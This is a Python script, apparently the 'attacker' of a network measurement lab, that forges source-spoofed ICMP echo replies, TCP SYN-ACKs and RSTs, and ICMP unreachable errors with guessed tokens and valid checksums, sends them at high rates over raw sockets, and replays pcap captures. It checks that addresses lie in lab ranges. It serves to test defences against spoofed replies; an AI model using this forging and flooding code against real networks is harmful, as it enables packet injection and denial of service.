# SPDX-License-Identifier: Apache-2.0
"""The attacker of the lab: sends packets with forged sources to a vantage.

    spoof.py flood VANTAGE HOST... [--pps N] [--seconds N]
    spoof.py replay VANTAGE CAPTURE.pcap [--pps N] [--seconds N]

flood guesses: echo replies (bare, and with a payload of the right form), SYN-ACKs,
RSTs and ICMP errors in the name of the hosts, with fresh random ids each time and
valid checksums. replay sends the packets of a capture that went to the vantage
once more, again and again. Meant for the inside of a lab; it refuses other
addresses than the lab's.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time

MAGIC = 0x42573101
LAB = [ipaddress.ip_network(text) for text in ("10.0.0.0/8", "198.18.0.0/15", "2001:db8::/32")]
ICMP, TCP, ICMPV6 = 1, 6, 58


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_packet(src, dst, protocol, body):
    """A whole IP packet around a finished transport part."""
    if src.version == 6:
        head = struct.pack("!IHBB", 6 << 28, len(body), protocol, 57)
        return head + src.packed + dst.packed + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), random.getrandbits(16), 0, 57,
                       protocol, 0) + src.packed + dst.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def pseudo_header(src, dst, protocol, length):
    if src.version == 6:
        return src.packed + dst.packed + struct.pack("!II", length, protocol)
    return src.packed + dst.packed + struct.pack("!HH", protocol, length)


def with_checksum(src, dst, protocol, body, offset):
    """BODY with its checksum at OFFSET filled in (ICMP over IPv4 has no pseudo-header)."""
    covered = body if protocol == ICMP else pseudo_header(src, dst, protocol, len(body)) + body
    return body[:offset] + struct.pack("!H", checksum(covered)) + body[offset + 2:]


def payload_guess():
    """A payload of the right form: magic, nonce, time and a guessed token."""
    nonce = random.getrandbits(random.choice((8, 16, 64)))
    return struct.pack("!IQqQ", MAGIC, nonce, time.monotonic_ns() // 1000 - 1000,
                       random.getrandbits(64))


def forge_echo(host, vantage):
    payload = random.choice((b"", bytes(56), payload_guess(), payload_guess() + b"x" * 20))
    protocol, kind = (ICMPV6, 129) if host.version == 6 else (ICMP, 0)
    body = struct.pack("!BBHI", kind, 0, 0, random.getrandbits(32)) + payload
    return ip_packet(host, vantage, protocol, with_checksum(host, vantage, protocol, body, 2))


def forge_tcp(host, vantage):
    flags = random.choice((0x12, 0x14))
    body = struct.pack("!HHIIBBHHH", random.choice((53, 80, 443)), random.randint(61440, 65535),
                       random.getrandbits(32), random.getrandbits(32), 5 << 4, flags, 65535, 0, 0)
    return ip_packet(host, vantage, TCP, with_checksum(host, vantage, TCP, body, 16))


def forge_error(host, vantage):
    """Unreachable (host, port, prohibited) quoting an echo probe or a SYN that may exist."""
    six = host.version == 6
    if random.random() < 0.5:
        echo = struct.pack("!BBHI", 128 if six else 8, 0, 0, random.getrandbits(32))
        quote = ip_packet(vantage, host, ICMPV6 if six else ICMP, echo + bytes(28))
    else:
        syn = struct.pack("!HHIIBBHHH", random.randint(61440, 65535), random.choice((53, 443)),
                          random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
        quote = ip_packet(vantage, host, TCP, syn)
    kind, code = (1, random.choice((1, 3, 4))) if six else (3, random.choice((1, 3, 13)))
    body = struct.pack("!BBHI", kind, code, 0, 0) + quote
    protocol = ICMPV6 if six else ICMP
    return ip_packet(host, vantage, protocol, with_checksum(host, vantage, protocol, body, 2))


def forge(hosts, vantage):
    while True:
        for kind in (forge_echo, forge_tcp, forge_error, forge_echo):
            yield kind(random.choice(hosts), vantage)


def recorded(path, vantage):
    """Repeats the IP packets to VANTAGE of a pcap file (Ethernet, little endian) for ever."""
    packets = []
    with open(path, "rb") as stream:
        data = stream.read()
    place = 24
    while place + 16 <= len(data):
        size = struct.unpack_from("<I", data, place + 8)[0]
        packet = data[place + 16 + 14:place + 16 + size]
        destination = packet[24:40] if packet[0] >> 4 == 6 else packet[16:20]
        if destination == vantage.packed:
            packets.append(packet)
        place += 16 + size
    if not packets:
        raise SystemExit(f"{path}: no packet to {vantage}")
    while True:
        yield from packets


def send(packets, vantage, pps, seconds):
    """Sends at PPS in bursts of 10 ms; returns how many."""
    kind = socket.AF_INET6 if vantage.version == 6 else socket.AF_INET
    out = socket.socket(kind, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    sent = 0
    while (now := time.monotonic() - begin) < seconds:
        while sent < now * pps:
            out.sendto(next(packets), (str(vantage), 0))
            sent += 1
        time.sleep(0.01)
    return sent


def main():
    parser = argparse.ArgumentParser(description="forge packets inside a lab")
    parser.add_argument("mode", choices=("flood", "replay"))
    parser.add_argument("vantage", type=ipaddress.ip_address)
    parser.add_argument("what", nargs="+", help="hosts, or a capture")
    parser.add_argument("--pps", type=int, default=3000)
    parser.add_argument("--seconds", type=float, default=30)
    options = parser.parse_args()
    if options.mode == "flood":
        hosts = [ipaddress.ip_address(text) for text in options.what]
        packets = forge(hosts, options.vantage)
    else:
        hosts = []
        packets = recorded(options.what[0], options.vantage)
    for address in (options.vantage, *hosts):
        if not any(address.version == net.version and address in net for net in LAB):
            raise SystemExit(f"{address} is not an address of the lab")
    print(send(packets, options.vantage, options.pps, options.seconds))


if __name__ == "__main__":
    main()
